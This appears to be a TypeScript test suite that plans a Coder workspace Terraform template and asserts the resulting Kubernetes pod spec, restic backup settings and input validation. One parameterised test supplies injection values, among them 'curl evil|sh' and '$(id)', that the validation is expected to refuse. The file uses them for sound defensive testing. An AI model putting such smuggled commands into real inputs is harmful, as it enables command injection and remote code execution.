import { execFile } from 'node:child_process';
import { cp, mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { promisify } from 'node:util';
import { requirePeer } from '../peers/peersEnv';
import { suiteTemplate } from './__testUtils__/suiteTemplates';
import { bundledCoderTemplatePath } from '@coder-platform/plugin-scaffolder-backend-module-coder-platform';

const run = promisify(execFile);

jest.setTimeout(300_000);

/**
 * The Coder template the workspace-image template pushes (and the cluster
 * template pushes as its default devbox): the devbox folder the actions
 * package ships (coder-templates/devbox), checked with the real terraform
 * CLI and the providers of the peers' filesystem mirror: `terraform init`,
 * `terraform validate`, and plans with the workspace-image variables whose
 * planned pod spec is asserted (the coder data sources read the workspace
 * from CODER_* variables, as a Coder provisioner sets them).
 */
describe('the workspace Coder template under terraform (peers mirror)', () => {
  const peer = requirePeer('terraform', [
    'PEERS_TERRAFORM_BIN',
    'PEERS_TERRAFORM_CLI_CONFIG',
    'PEERS_TERRAFORM_VERSION',
    // written since the mirror holds hashicorp/kubernetes too
    'PEERS_TERRAFORM_KUBERNETES_PROVIDER',
  ]);
  let dir: string;

  const env = {
    PATH: process.env.PATH ?? '',
    HOME: process.env.HOME ?? '/root',
    TF_CLI_CONFIG_FILE: peer.PEERS_TERRAFORM_CLI_CONFIG,
    TF_IN_AUTOMATION: '1',
    TF_INPUT: '0',
    CODER_WORKSPACE_TRANSITION: 'start',
    CODER_WORKSPACE_NAME: 'Ws1',
    CODER_WORKSPACE_ID: '7f9a1c2e-0000-4000-8000-000000000001',
    CODER_WORKSPACE_OWNER: 'Dana',
    CODER_WORKSPACE_OWNER_ID: '7f9a1c2e-0000-4000-8000-000000000002',
    CODER_AGENT_URL: 'https://coder.dev-eu1.example.com/',
    // kubernetes 1.13.x: no kubeconfig and no API calls while planning
    KUBE_LOAD_CONFIG_FILE: 'false',
    KUBE_HOST: 'https://127.0.0.1:1',
  };
  const terraform = (args: string[], extraEnv: Record<string, string> = {}) =>
    run(peer.PEERS_TERRAFORM_BIN, args, {
      cwd: dir,
      env: { ...env, ...extraEnv },
      maxBuffer: 64 * 1024 * 1024,
    }).catch((error: any) => {
      throw new Error(
        `terraform ${args[0]} failed: ${
          error.stderr || error.stdout || error.message
        }`,
      );
    });

  /** The variables the workspace-image template pushes for its example request. */
  const requestVars = {
    image: 'ghcr.io/acme/java-training:latest',
    cpu: '1.5',
    memory_gib: '8',
    home_disk_gib: '20',
    vscode_extensions: 'vscjava.vscode-java-pack,redhat.vscode-yaml',
    docker_enabled: 'true',
    backup_enabled: 'true',
    backup_cron: '15 * * * *',
    cluster_name: 'dev-eu1',
    restic_repository_prefix: 'gs:acme-coder-backups:/coder/dev-eu1',
  };
  const varArgs = (vars: Record<string, string>) =>
    Object.entries(vars).flatMap(([k, v]) => ['-var', `${k}=${v}`]);

  async function plan(vars: Record<string, string>) {
    await terraform(['plan', '-out=tfplan', '-no-color', ...varArgs(vars)]);
    const { stdout } = await terraform(['show', '-json', 'tfplan']);
    const planned = JSON.parse(stdout);
    const resources: any[] = planned.planned_values.root_module.resources;
    return {
      planned,
      resource: (address: string) => resources.find(r => r.address === address),
    };
  }

  beforeAll(async () => {
    dir = await mkdtemp(path.join(tmpdir(), 'workspace-coder-template-'));
    // The one Terraform source both templates copy (coder:template:fetch).
    await cp(bundledCoderTemplatePath('devbox'), dir, { recursive: true });
    await terraform(['init', '-no-color', '-input=false']);
  });
  afterAll(async () => {
    if (dir) await rm(dir, { recursive: true, force: true });
  });

  it('init installs coder/coder and hashicorp/kubernetes from the mirror', async () => {
    const lock = await readFile(path.join(dir, '.terraform.lock.hcl'), 'utf8');
    expect(lock).toMatch(
      /provider "registry.terraform.io\/coder\/coder" \{\n\s+version\s+= "2\.20\.0"/,
    );
    expect(peer.PEERS_TERRAFORM_KUBERNETES_PROVIDER).toBe('1.13.4');
    expect(lock).toMatch(
      /provider "registry.terraform.io\/hashicorp\/kubernetes" \{\n\s+version\s+= "1\.13\.4"/,
    );
    const { stdout } = await terraform(['version', '-json']);
    expect(JSON.parse(stdout).terraform_version).toBe(
      peer.PEERS_TERRAFORM_VERSION,
    );
  });

  it('validates', async () => {
    const { stdout } = await terraform(['validate', '-json', '-no-color']);
    const result = JSON.parse(stdout);
    expect(
      result.diagnostics.filter((d: any) => d.severity === 'error'),
    ).toEqual([]);
    expect(result.valid).toBe(true);
  });

  it('plans the workspace of a request: home PVC, pools, spot preferred, dind and restic with the password from a Secret', async () => {
    const { planned, resource } = await plan(requestVars);
    const pvc = resource('kubernetes_persistent_volume_claim.home').values;
    expect(pvc.metadata[0].name).toBe('coder-dana-ws1-home');
    expect(pvc.spec[0].resources[0].requests).toEqual({ storage: '20Gi' });
    expect(pvc.spec[0].storage_class_name).toBe('immediate-rwo');

    const deployment = resource('kubernetes_deployment.main[0]').values;
    const pod = deployment.spec[0].template[0].spec[0];
    const affinity = pod.affinity[0].node_affinity[0];
    expect(
      affinity.required_during_scheduling_ignored_during_execution[0]
        .node_selector_term[0].match_expressions,
    ).toEqual([
      {
        key: 'coder-development-cluster/workspace',
        operator: 'In',
        values: ['true'],
      },
    ]);
    expect(
      affinity.preferred_during_scheduling_ignored_during_execution[0],
    ).toMatchObject({
      weight: 1,
      preference: [
        {
          match_expressions: [
            {
              key: 'cloud.google.com/gke-spot',
              operator: 'In',
              values: ['true'],
            },
          ],
        },
      ],
    });
    expect(pod.toleration).toEqual([
      expect.objectContaining({
        key: 'coder-development-cluster/workspace',
        operator: 'Exists',
        effect: 'NoSchedule',
      }),
    ]);
    expect(pod.service_account_name).toBe('coder-workspace');

    const containers = Object.fromEntries(
      pod.container.map((c: any) => [c.name, c]),
    );
    expect(Object.keys(containers)).toEqual([
      'dev',
      'docker-dind',
      'restic-backup',
    ]);
    expect(pod.init_container.map((c: any) => c.name)).toEqual([
      'restic-restore',
      'home-owner',
    ]);
    const dev = containers.dev;
    expect(dev.image).toBe('ghcr.io/acme/java-training:latest');
    expect(dev.security_context[0]).toMatchObject({
      run_as_user: 1000,
      run_as_non_root: true,
    });
    // kubernetes 1.13.x: limits and requests are blocks
    expect(dev.resources[0]).toMatchObject({
      limits: [{ cpu: '1.5', memory: '8192Mi' }],
      requests: [{ cpu: '375m', memory: '6144Mi' }],
    });
    expect(dev.volume_mount[0]).toMatchObject({
      mount_path: '/home/coder',
      sub_path: 'home',
    });
    expect(dev.env).toEqual(
      expect.arrayContaining([
        expect.objectContaining({
          name: 'DOCKER_HOST',
          value: 'tcp://localhost:2375',
        }),
        expect.objectContaining({ name: 'CLUSTER_NAME', value: 'dev-eu1' }),
      ]),
    );
    expect(containers['docker-dind'].security_context[0].privileged).toBe(true);

    for (const restic of [containers['restic-backup'], pod.init_container[0]]) {
      const byName = Object.fromEntries(
        restic.env.map((e: any) => [e.name, e]),
      );
      expect(byName.RESTIC_PASSWORD.value ?? '').toBe('');
      expect(
        byName.RESTIC_PASSWORD.value_from[0].secret_key_ref[0],
      ).toMatchObject({
        name: 'restic',
        key: 'password',
      });
      expect(byName.RESTIC_REPOSITORY.value).toBe(
        'gs:acme-coder-backups:/coder/dev-eu1/coder-dana-ws1',
      );
      expect(byName.BACKUP_CRON.value).toBe('15 * * * *');
    }

    // code-server with the chosen extensions, in the agent's startup script
    const agent = resource('coder_agent.main').values;
    expect(agent.startup_script).toContain(
      'code-server --install-extension vscjava.vscode-java-pack',
    );
    expect(agent.startup_script).toContain(
      'code-server --install-extension redhat.vscode-yaml',
    );
    expect(resource('coder_app.code_server').values.url).toBe(
      'http://localhost:13337/?folder=/home/coder',
    );
    // no literal password anywhere in the plan
    expect(JSON.stringify(planned)).not.toMatch(
      /RESTIC_PASSWORD","value":"[^"]/,
    );
  });

  it("plans the cluster template's default devbox with the variables its push step renders", async () => {
    const step = suiteTemplate(
      'coder-development-cluster',
    ).entity.spec.steps.find((s: { id: string }) => s.id === 'devbox');
    const parameters: Record<string, string> = {
      clusterName: 'dev-eu1',
      bucketName: 'acme-coder-backups',
    };
    const vars = Object.fromEntries(
      Object.entries<unknown>(step.input.variables).map(([name, value]) => {
        const rendered = String(value).replace(
          /\$\{\{\s*parameters\.([A-Za-z0-9_]+)\s*\}\}/g,
          (_m, p: string) => parameters[p],
        );
        expect(rendered).not.toContain('${{');
        return [name, rendered];
      }),
    );
    // Undeclared variables fail `terraform plan -var`: the names match variables.tf.
    const { resource } = await plan(vars);
    const pod = resource('kubernetes_deployment.main[0]').values.spec[0]
      .template[0].spec[0];
    expect(
      resource('kubernetes_deployment.main[0]').values.metadata[0].namespace,
    ).toBe('coder');
    // devbox: the seed image, Docker sidecar and restic backups on.
    expect(pod.container.map((c: any) => [c.name, c.image])).toEqual([
      ['dev', 'isi006/docker-k8s-training:latest'],
      ['docker-dind', expect.stringMatching(/^docker:/)],
      ['restic-backup', expect.any(String)],
    ]);
    const backup = Object.fromEntries(
      pod.container[2].env.map((e: any) => [e.name, e]),
    );
    expect(backup.RESTIC_REPOSITORY.value).toBe(
      'gs:acme-coder-backups:/coder/dev-eu1/coder-dana-ws1',
    );
    expect(backup.RESTIC_PASSWORD.value_from[0].secret_key_ref[0].name).toBe(
      'restic',
    );
  });

  it('without the Docker sidecar and backups the pod is the dev container alone', async () => {
    const { resource } = await plan({
      ...requestVars,
      docker_enabled: 'false',
      backup_enabled: 'false',
      restic_repository_prefix: '',
    });
    const pod = resource('kubernetes_deployment.main[0]').values.spec[0]
      .template[0].spec[0];
    expect(pod.container.map((c: any) => c.name)).toEqual(['dev']);
    expect(pod.init_container.map((c: any) => c.name)).toEqual(['home-owner']);
    expect(pod.container[0].env.map((e: any) => e.name)).not.toContain(
      'DOCKER_HOST',
    );
  });

  it('a stopped workspace keeps its home volume and has no Deployment', async () => {
    await terraform(
      ['plan', '-out=tfplan', '-no-color', ...varArgs(requestVars)],
      {
        CODER_WORKSPACE_TRANSITION: 'stop',
      },
    );
    const { stdout } = await terraform(['show', '-json', 'tfplan']);
    const addresses = JSON.parse(
      stdout,
    ).planned_values.root_module.resources.map((r: any) => r.address);
    expect(addresses).toContain('kubernetes_persistent_volume_claim.home');
    expect(addresses).not.toContain('kubernetes_deployment.main[0]');
  });

  it.each([
    ['vscode_extensions', 'ms-python.python;curl evil|sh', 'publisher.name'],
    ['image', 'ubuntu\nRUN id', 'image reference'],
    ['backup_cron', '* * * * *; id', 'five-field cron'],
    ['restic_repository_prefix', 'gs:b:/x$(id)', 'restic repository'],
    ['memory_gib', '2.5', 'whole number'],
  ])(
    'refuses %s = %j with its validation message',
    async (name, value, message) => {
      await expect(plan({ ...requestVars, [name]: value })).rejects.toThrow(
        message,
      );
    },
  );

  it('refuses backups without a repository before any resource is planned', async () => {
    await expect(
      plan({ ...requestVars, restic_repository_prefix: '' }),
    ).rejects.toThrow('backup_enabled needs restic_repository_prefix');
  });
});
